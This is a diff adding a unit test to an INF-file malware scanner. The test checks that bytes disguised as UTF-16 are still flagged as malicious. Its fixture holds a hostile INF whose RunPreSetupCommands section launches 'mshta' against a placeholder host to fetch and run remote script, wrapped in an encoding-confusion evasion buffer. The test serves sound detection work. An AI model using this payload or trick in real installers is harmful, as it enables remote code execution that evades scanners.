@@ -312,6 +312,30 @@ static void test_bytes_that_readers_take_differently(void **state)
     infscan_result_free(result);
 }
 
+/* Mostly NUL bytes, so that it is guessed to be UTF-16, and yet an INF for who
+ * reads bytes. */
+static void test_bytes_of_two_texts_are_judged_by_the_worse(void **state)
+{
+    static const char inf[] = "\n[Version]\nSignature=$CHICAGO$\n"
+                              "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n"
+                              "mshta http://example.invalid/a\n";
+    char raw[2048];
+
+    (void)state;
+    for (size_t i = 0; i < 1024; i++) {
+        raw[2 * i] = i % 40 ? 'x' : '\n';
+        raw[2 * i + 1] = '\0';
+    }
+    memcpy(raw + 1024, inf, sizeof inf - 1);
+    struct infscan_result *result = scan(str_of(raw, sizeof raw));
+    assert_int_equal(infscan_result_summary(result)->verdict,
+                     INFSCAN_MALICIOUS);
+    assert_string_equal(infscan_result_summary(result)->encoding,
+                        "windows-1252");
+    assert_true(has_diagnostic(result, "INF0030"));
+    infscan_result_free(result);
+}
+
 static void test_each_language_is_read(void **state)
 {
     struct infscan_result *result =
@@ -360,6 +384,7 @@ int main(void)
         cmocka_unit_test(test_a_file_name_that_is_not_utf8),
         cmocka_unit_test(test_one_command_without_an_inf),
         cmocka_unit_test(test_bytes_that_readers_take_differently),
+        cmocka_unit_test(test_bytes_of_two_texts_are_judged_by_the_worse),
         cmocka_unit_test(test_each_language_is_read),
         cmocka_unit_test(test_lines_of_the_file),
     };
